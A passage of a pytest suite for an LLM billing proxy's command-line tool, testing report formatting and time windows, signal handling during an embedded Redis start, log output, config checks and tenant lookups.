    assert first
    proc.stdout.feed_eof()
    transport = proc._transport  # type: ignore[attr-defined]
    transport.get_pipe_transport(1).close()  # the reader is gone
    stderr = await proc.stderr.read()
    code = await proc.wait()
    assert b"Traceback" not in stderr, stderr.decode()[-500:]
    assert code == 141, (code, stderr.decode()[-300:])  # as a shell reports a writer SIGPIPE ended


def _terminal_columns(text: str) -> int:
    """Columns a terminal draws ``text`` in: East Asian wide and fullwidth characters take two."""
    return sum(2 if unicodedata.east_asian_width(c) in "WF" else 1 for c in text)


async def test_report_table_lines_up_with_wide_characters_in_a_model_name(
    make_proxy: ProxyFactory, redis_server: RedisServerProcess, capsys: pytest.CaptureFixture[str]
) -> None:
    """The client names the model ("*" routes any): a CJK name was padded by its code points, not
    by the columns a terminal draws it in, and every cell after it shifted right (the CLI hunt)."""
    proxy = await make_proxy()
    client = proxy.client()
    for model in ("gpt-4o-mini", "通义千问-旗舰版"):
        await client.chat.completions.create(model=model, messages=[{"role": "user", "content": "hi"}])
    await proxy.recorded()
    args = ["report", "--redis-url", redis_server.url, "--tenant", "team-a"]
    assert await asyncio.to_thread(main, args) == 0
    lines = capsys.readouterr().out.splitlines()
    assert len(lines) == 4, lines  # header, rule, two models
    header = lines[0]
    calls_end = _terminal_columns(header[: header.index("calls") + len("calls")])
    for row in lines[2:]:
        calls_cell_end = row.index(" 1 ") + 2  # each model's one call, right-aligned under "calls"
        assert _terminal_columns(row[:calls_cell_end]) == calls_end, (header, row)


async def test_a_report_since_a_moment_does_not_count_the_millisecond_before(
    redis_server: RedisServerProcess, redis_client: aioredis.Redis, capsys: pytest.CaptureFixture[str]
) -> None:
    """``int(moment.timestamp() * 1000)``: the float product lands just below the whole number for
    some moments (about one in five of 2038's milliseconds), and the report counted the
    millisecond before ``--since`` (the CLI hunt)."""
    since, since_ms = "2038-08-29T17:04:47.186", 2_166_714_287_186
    for ms in (since_ms - 1, since_ms):
        entry = {**LEDGER_ENTRY, "time_ms": str(ms)}  # made, and written, that millisecond
        await redis_client.xadd("lbp:{team-s}:ledger", entry, id=f"{ms}-0")
    args = ["report", "--redis-url", redis_server.url, "--tenant", "team-s", "--since", since]
    assert await asyncio.to_thread(main, [*args, "--format", "jsonl"]) == 0
    (row,) = map(json.loads, capsys.readouterr().out.splitlines())
    assert row["calls"] == "1"  # only the entry of .186


def _held_redis_server(tmp_path: Path) -> Path:
    """A ``redis-server`` first on PATH that writes its pid, then waits (as one loading a large
    AOF does before it answers) for a ``go`` that never comes, then is the real server."""
    real = shutil.which("redis-server") or shutil.which("valkey-server")
    assert real is not None
    bin_dir = tmp_path / "bin"
    bin_dir.mkdir()
    script = bin_dir / "redis-server"
    script.write_text(
        "#!/bin/sh\n"
        f'echo $$ > "{tmp_path}/pid.new" && mv "{tmp_path}/pid.new" "{tmp_path}/pid"\n'
        f'while [ ! -e "{tmp_path}/go" ]; do sleep 0.05; done\n'
        f'exec {real} "$@"\n'
    )
    script.chmod(0o755)
    return bin_dir


def _alive(pid: int) -> bool:
    try:
        return Path(f"/proc/{pid}/stat").read_text().split()[2] != "Z"
    except OSError:
        return False


@pytest.mark.parametrize(("sig", "workers"), [(signal.SIGTERM, "1"), (signal.SIGINT, "2")])
def test_a_stop_while_the_embedded_server_starts_ends_serve_cleanly_and_stops_that_server(
    sig: signal.Signals, workers: str, fake: FakeUpstream, tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    """A stop signal while ``serve`` waited for its embedded server to answer (an AOF's load)
    found no handler yet: serve was killed (exit -15, or a KeyboardInterrupt's traceback) and
    the server it was starting, in a session of its own, was left running."""
    monkeypatch.setenv("PATH", f"{_held_redis_server(tmp_path)}:{os.environ['PATH']}")
    raw = base_config(fake.base_url, "unused")
    raw["redis"] = {"data_dir": str(tmp_path / "redis")}
    proxy = ProxyProcess(raw, tmp_path, args=("--workers", workers)).start(ready=False)
    pid = 0
    try:
        deadline = time.monotonic() + 30
        while not (tmp_path / "pid").exists():
            assert time.monotonic() < deadline, proxy.log()[-2000:]
            time.sleep(0.02)
        pid = int((tmp_path / "pid").read_text())
        proxy.signal(sig)
        code = proxy.wait(30)
        left = _alive(pid)
    finally:
        proxy.stop()
        if pid and _alive(pid):
            os.kill(pid, signal.SIGKILL)
    assert not left, "the redis-server serve was starting outlived it"
    assert code == 0, proxy.log()[-2000:]
    assert "Traceback" not in proxy.log()


def test_the_help_names_every_command_in_plain_words(capsys: pytest.CaptureFixture[str]) -> None:
    """The top-level help once named three of its four commands, in reStructuredText quotes."""
    with pytest.raises(SystemExit) as ended:
        main(["--help"])
    assert ended.value.code == 0
    shown = capsys.readouterr().out
    assert "``" not in shown
    description = shown.split("positional arguments")[0]
    assert all(command in description for command in ("serve", "check", "ledger", "report")), description


def test_serve_with_a_journal_dir_it_cannot_write_exits_2_naming_it(tmp_path: Path) -> None:
    """The journal is written only when Redis fails a settle: a journal_dir under a file served
    calls until then, each such call then left to a reaper at its reserve (the docs hunt)."""
    blocker = tmp_path / "a-file"
    blocker.write_text("")
    path = tmp_path / "proxy.yaml"
    path.write_text(
        'upstreams: {openai: {base_url: "http://127.0.0.1:9/v1"}}\n'
        'redis: {url: "redis://127.0.0.1:9/0"}\n'
        f'journal_dir: "{blocker}/journal"\n'
    )
    result = run_cli("serve", "--config", str(path))
    assert result.returncode == 2 and "Traceback" not in result.stderr, result.stderr
    assert "journal_dir" in result.stderr and "cannot be written" in result.stderr, result.stderr


@pytest.mark.parametrize("workers", ["1", "2"])
def test_serve_with_json_logs_warns_of_an_unset_upstream_key_once_as_a_json_line(
    workers: str, fake: FakeUpstream, redis_server: RedisServerProcess, tmp_path: Path
) -> None:
    """``log.format: json`` is one object per line, and an ``api_key_env`` named but unset is a
    warning at load (README). The warning was logged while ``serve`` read the file, before its
    logging was set up: Python's last-resort handler wrote it as plain text, and each worker's
    reloader, reading the file again, logged it once more in JSON (the docs hunt)."""
    raw = base_config(fake.base_url, redis_server.url)
    raw["upstreams"]["openai"]["api_key_env"] = "HUNT_DOCS_UNSET_UPSTREAM_KEY"
    proc = ProxyProcess(raw, tmp_path, args=("--workers", workers)).start()
    try:
        log = proc.log()
    finally:
        proc.stop()
    lines = [line for line in log.splitlines() if line.strip()]
    not_json = []
    for line in lines:
        try:
            json.loads(line)
        except ValueError:
            not_json.append(line)
    assert not_json == [], not_json
    warned = [line for line in lines if "HUNT_DOCS_UNSET_UPSTREAM_KEY is not set" in line]
    assert len(warned) == 1, warned
    assert json.loads(warned[0])["level"] == "warning"


def test_serve_says_which_upstreams_go_through_the_environments_egress_proxy(
    fake: FakeUpstream, redis_server: RedisServerProcess, tmp_path: Path
) -> None:
    """An upgrade reads HTTP_PROXY where a version before went direct: ``serve`` says so at
    start, once, naming the upstream, the proxy's host:port and the variable (not its password)."""
    proc = ProxyProcess(base_config(fake.base_url, redis_server.url), tmp_path, args=("--workers", "2"))
    # Lower case, which wins over whatever the machine's environment says; no_proxy set blank
    # names no host, the fake's 127.0.0.1 included.
    proc.start(extra_env={"http_proxy": "http://gw:hunter2-proxy-pw@corp-proxy:3128", "no_proxy": ""})
    try:
        log = proc.log()
    finally:
        proc.stop()
    assert "hunter2-proxy-pw" not in log
    said = [json.loads(line) for line in log.splitlines() if "egress proxy" in line]
    assert [(s["level"], s["upstream"], s["egress_proxy"], s["named_by"]) for s in said] == [
        ("info", "openai", "corp-proxy:3128", "http_proxy")
    ], log


def _readme_config_commands() -> list[str]:
    """The README's commands for a config file (the sh block after "With a config file"),
    ``serve`` left out: it would run until stopped."""
    readme = (ROOT / "README.md").read_text()
    block = readme.split("With a config file", 1)[1].split("```sh\n", 1)[1].split("```", 1)[0]
    return [line for line in block.splitlines() if line.strip() and " serve " not in f" {line} "]


@pytest.mark.parametrize("where", ["README", "config/example.yaml"])
def test_the_documented_check_of_the_example_config_passes_on_a_fresh_machine(where: str) -> None:
    """README and config/example.yaml told a new operator to run ``check-config
    config/example.yaml``, which exits 2 where DEV_PROXY_KEY is not set (a key whose secret
    cannot be read is refused: test_operator_figures): the command as documented, with the
    variables it sets, passes, nothing else in the environment (the docs hunt)."""
    if where == "README":
        commands = _readme_config_commands()
    else:
        (comment,) = [
            line
            for line in (ROOT / "config" / "example.yaml").read_text().splitlines()
            if "check-config" in line
        ]
        commands = [comment.removeprefix("#").strip()]
    assert any("check-config config/example.yaml" in line for line in commands), commands
    done = subprocess.run(
        ["bash", "-euc", "\n".join(commands)],
        capture_output=True,
        text=True,
        cwd=ROOT,
        timeout=60,
        env={"PATH": f"{Path(sys.executable).parent}:/usr/bin:/bin"},
    )
    assert done.returncode == 0, done.stderr
    assert "config/example.yaml: ok" in done.stdout and done.stderr == "", done


async def test_a_reports_calls_are_those_that_went_out_as_the_meters_count_them(
    make_proxy: ProxyFactory,
    fake: FakeUpstream,
    redis_client: aioredis.Redis,
    capsys: pytest.CaptureFixture[str],
) -> None:
    """A call that never went out (the upstream refused the connection; a ``not_forwarded``
    release) leaves an entry billed nothing (``usage_source: none``): the report counted it in
    its calls, which then exceeded the run's ``requests`` meter for the same traffic. Its
    outcomes still count every entry, as ``llm_proxy_requests_total`` does."""
    from tests.test_metrics import ADMIN, scrape, total

    dead = {"base_url": f"http://127.0.0.1:{refused_port()}/v1", "api_key_env": "TEST_UPSTREAM_KEY"}
    proxy = await make_proxy(
        upstreams={**upstream_timing_out(fake.base_url, 5), "dead": dead},
        models={"gpt-4o-mini": {"upstream": "openai"}, "gpt-dead": {"upstream": "dead"}},
        admin_keys=[{"name": "ops", "sha256": digest(ADMIN)}],
    )
    client = proxy.client()
    run = {"X-Run-Id": "went-out"}
    await client.chat.completions.create(
        model="gpt-4o-mini", messages=[{"role": "user", "content": "hi"}], extra_headers=run
    )
    with pytest.raises(openai.APIStatusError):
        await client.chat.completions.create(
            model="gpt-dead", messages=[{"role": "user", "content": "hi"}], extra_headers=run
        )
    await proxy.recorded()
    ledger = "lbp:{team-a}:ledger"
    # A reserve released because its call never went out, as settle.release_now writes it.
    await redis_client.xadd(
        ledger,
        {
            **LEDGER_ENTRY,
            "run_id": "went-out",
            "outcome": "not_forwarded",
            "usage_source": "none",
            "input_tokens": "0",
            "output_tokens": "0",
            "total_tokens": "0",
            "cost_micros": "0",
        },
    )
    args = ["report", "--redis-url", proxy.config.redis.url or "", "--tenant", "team-a", "--by", "run"]
    assert await asyncio.to_thread(main, [*args, "--format", "jsonl"]) == 0
    (row,) = map(json.loads, capsys.readouterr().out.splitlines())
    async with (
        aiohttp.ClientSession() as session,
        session.get(
            f"{proxy.url}/v1/billing/runs/went-out", headers={"Authorization": f"Bearer {KEY_A}"}
        ) as resp,
    ):
        meters = (await resp.json())["meters"]
    assert row["calls"] == str(meters["requests"]["used"]) == "1"
    assert row["outcomes"] == "not_forwarded=1 ok=1 upstream_error=1"
    # The counter counts the two entries this proxy wrote, as the outcomes column does.
    assert total(await scrape(proxy), "llm_proxy_requests_total", tenant="team-a") == 2


async def test_a_tenant_neither_configured_nor_in_the_store_is_an_error_not_an_idle_tenant(
    redis_server: RedisServerProcess,
    redis_client: aioredis.Redis,
    tmp_path: Path,
    capsys: pytest.CaptureFixture[str],
) -> None:
    """``ledger --tenant team-aa`` (a typo for team-a) exited 0 with nothing, ``report`` with
    "no ledger entries": a typo read as a tenant that made no call. A tenant a reload removed
    from the config whose ledger Redis keeps is still read, and a configured one with no call
    yet is an empty ledger."""
    config = tmp_path / "config.yaml"
    config.write_text(
        "upstreams: {openai: {base_url: 'http://127.0.0.1:9/v1'}}\n"
        "models: {'*': {upstream: openai}}\n"
        f"redis: {{url: '{redis_server.url}'}}\n"
        "keys: [{name: a, sha256: '" + "0" * 64 + "', tenant: team-a}]\n"
    )
    await redis_client.xadd("lbp:{team-gone}:ledger", dict(LEDGER_ENTRY))
    await redis_client.zadd("lbp:tenants:until", {"team-idle": 1})  # registered, no entry yet
    for command in ("ledger", "report"):
        for where in (["--config", str(config)], ["--redis-url", redis_server.url]):
            args = [command, *where, "--format", "jsonl"]
            assert await asyncio.to_thread(main, [*args, "--tenant", "team-aa"]) == 2
            out = capsys.readouterr()
            assert out.out == ""
            assert out.err == (
                "llm-billing-proxy: no tenant 'team-aa': neither the config's keys nor the store's "
                "ledgers and tenant registry name it\n"
            )
            assert await asyncio.to_thread(main, [*args, "--tenant", "team-gone"]) == 0
            assert "gpt-4o-mini" in capsys.readouterr().out
            assert await asyncio.to_thread(main, [*args, "--tenant", "team-idle"]) == 0
            assert capsys.readouterr().out == ""
        assert await asyncio.to_thread(main, [command, "--config", str(config), "--tenant", "team-a"]) == 0


async def test_a_report_since_a_moment_counts_the_calls_made_since_not_the_entries_written_since(
    redis_server: RedisServerProcess, redis_client: aioredis.Redis, capsys: pytest.CaptureFixture[str]
) -> None:
    """``--since 2026-11-01`` (--help: a UTC date or time) read the entries written since then,
    by their stream ids: a call of October 31st settled after midnight, or replayed from a
    journal days later, was November's, where its meters counted it in October (the window of
    its reserve). It counts the calls made since (``time_ms``); an entry without one by its id."""
    since_ms = 1_793_491_200_000  # 2026-11-01T00:00:00Z
    ledger = "lbp:{team-t}:ledger"
    entries: list[tuple[int, int | None]] = [
        (since_ms - 30 * 60_000, since_ms - 40 * 60_000),  # made and written in October
        (since_ms + 1_000, since_ms - 60_000),  # made in October, settled in November
        (since_ms + 3 * 86_400_000, since_ms - 1),  # replayed from a journal three days on
        (since_ms - 1, since_ms),  # made at midnight, written by a clock a moment behind
        (since_ms + 2_000, since_ms + 1_000),  # made and written in November
        (since_ms + 5_000, None),  # no time_ms: by its id, November
    ]
    without = {k: v for k, v in LEDGER_ENTRY.items() if k != "time_ms"}
    for written_ms, made_ms in sorted(entries, key=lambda e: e[0]):  # a stream's ids only grow
        made = {} if made_ms is None else {"time_ms": str(made_ms)}
        await redis_client.xadd(ledger, {**without, **made}, id=f"{written_ms}-0")
    args = ["report", "--redis-url", redis_server.url, "--tenant", "team-t", "--format", "jsonl"]
    assert await asyncio.to_thread(main, [*args, "--since", "2026-11-01"]) == 0
    (row,) = map(json.loads, capsys.readouterr().out.splitlines())
    assert row["calls"] == "3"
